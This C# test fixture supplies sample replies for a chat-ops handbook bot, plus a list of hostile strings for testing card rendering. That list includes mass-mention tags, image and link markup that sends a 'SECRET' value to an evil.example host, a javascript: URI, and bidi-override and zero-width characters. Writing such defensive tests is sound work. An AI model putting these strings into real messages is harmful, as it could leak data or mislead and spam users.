using ChatOpsBot.RagCore.Conversations;

namespace ChatOpsBot.TestKit.Contracts;

/// <summary>One reply of every kind, as people meet them, and replies made to break cards.</summary>
public static class ReplySamples
{
    public static AnswerReply Answer { get; } = new(
        [
            new("Full-time employees get 28 days of paid leave a year.", [1]),
            new("Unused days can be carried over until 31 March of the next year; up to five of them.", [2]),
        ],
        [
            new(1, "people/leave.md", "a1b2", "Leave and time off", ["Annual leave", "How much"], new Uri("https://wiki.example.com/handbook/people/leave.md"), "Full-time employees get **28 days** of paid leave a year.\nPart-time employees get a share.", 120, 210, new DateOnly(2026, 1, 1)),
            new(2, "people/carry-over.md", "c3d4", "Carrying leave over", ["Deadlines"], null, "Unused days can be carried over until 31 March of the next year; up to five of them.", 40, 124, null),
        ],
        AnswerMode.Extractive,
        Confidence.High,
        []);

    public static AnswerReply Superseded { get; } = Answer with
    {
        Mode = AnswerMode.Model,
        Confidence = Confidence.Medium,
        Notes = ["\"Leave and time off (2024)\" says 25 days. It was replaced on 1 January 2026."],
    };

    public static NoEvidenceReply NoEvidence { get; } = new(
        "What is the wifi password of the moon base?", "44 documents in Handbook", "Try other words, or name the document you have in mind.\n- Ask the facilities team\n- Write \"sources\" to see what I search");

    public static ClarificationReply Clarification { get; } = new("Which leave do you mean?", ["Annual leave", "Parental leave", "Sick leave"]);

    public static NoticeReply Help { get; } = new("Ask me about the handbook.\n- \"sources\" tells what I search\n- \"forget\" makes me forget this thread", NoticeKind.Command);

    public static NoticeReply Refusal { get; } = new("You have asked 20 questions in the last minute. Ask again at 14:20.", NoticeKind.Refusal);

    public static NoticeReply Apology { get; } = new("I could not answer (ref 7F3K). I was asked at 14:02 and have told the operators.", NoticeKind.Apology);

    public static HandOverReply HandOver { get; } = new(
        "How many days of leave do contractors get?",
        "U0ALICE",
        [new("Leave and time off", new Uri("https://wiki.example.com/handbook/people/leave.md")), new("Carrying leave over", null)],
        [new("S0DESK01", "HR desk"), new("U0KIM", "Kim Lee")],
        "Please answer here.")
    {
        AskedByName = "Alice",
    };

    /// <summary>Gets every kind by name.</summary>
    public static IReadOnlyDictionary<string, Reply> ByName { get; } = new Dictionary<string, Reply>(StringComparer.Ordinal)
    {
        ["answer"] = Answer,
        ["superseded"] = Superseded,
        ["no_evidence"] = NoEvidence,
        ["clarification"] = Clarification,
        ["help"] = Help,
        ["refusal"] = Refusal,
        ["apology"] = Apology,
    };

    /// <summary>Gets texts that try to become mentions, links, formatting or broken cards.</summary>
    public static IReadOnlyList<string> Hostile { get; } =
    [
        "<!channel> <!here> <!everyone> now",
        "<@U0ALICE> and <@W0BOB|bob>, ask <!subteam^S0ADMINS|@admins> in <#C0SECRET|secret>",
        "<https://evil.example/?q=SECRET|click> ![x](https://evil.example/?q=SECRET) [a][1]",
        "bare https://evil.example/?q=SECRET and javascript:alert(1) and data:text/html,x and mailto:a@evil.example",
        "*bold* _italic_ ~strike~ `code` ```block``` > quote\n> quote\n- list",
        "&lt;!channel&gt; &amp;lt;!here&amp;gt; & < >",
        "right \u202Eot tfel\u202C, zero\u200Bwidth \uFEFF\u2060, tags \U000E0041\U000E0042",
        "{\"type\":\"section\"} \"quoted\" \\ \\u003c \0 \u0007 end",
        "<at>everyone</at> @everyone @channel :smile: {{x}} ${y} {0}",
        "family 👨‍👩‍👧‍👦 flag 🏴 é é 𝒳 中文 العربية",
    ];

    /// <summary>Returns an answer whose every text is the given one.</summary>
    public static AnswerReply Saying(string text) => new(
        [new(text, [1])], [new(1, text, "v1", text, [text, text], null, text, 0, text.Length, null)], AnswerMode.Extractive, Confidence.Low, [text]);

    /// <summary>Returns an answer of so many statements and sources, each of so many characters.</summary>
    public static AnswerReply OfLength(int statements, int characters, int citations) => new(
        [.. Enumerable.Range(1, statements).Select(n => new AnswerStatement(Words(n, characters), [1 + (n % citations)]))],
        [.. Enumerable.Range(1, citations).Select(n => new Citation(n, $"d{n}.md", "v1", $"Document {n}", ["Part", "Chapter"], new Uri($"https://wiki.example.com/d{n}.md"), Words(n, characters), 0, 1, null))],
        AnswerMode.Model,
        Confidence.Medium,
        []);

    /// <summary>Returns distinct words, so that a lost or doubled one is seen.</summary>
    public static string Words(int seed, int characters)
    {
        var words = string.Join(' ', Enumerable.Range(0, (characters / 7) + 1).Select(n => $"w{seed}x{n}"));
        return words[..Math.Min(words.Length, characters)].TrimEnd();
    }
}
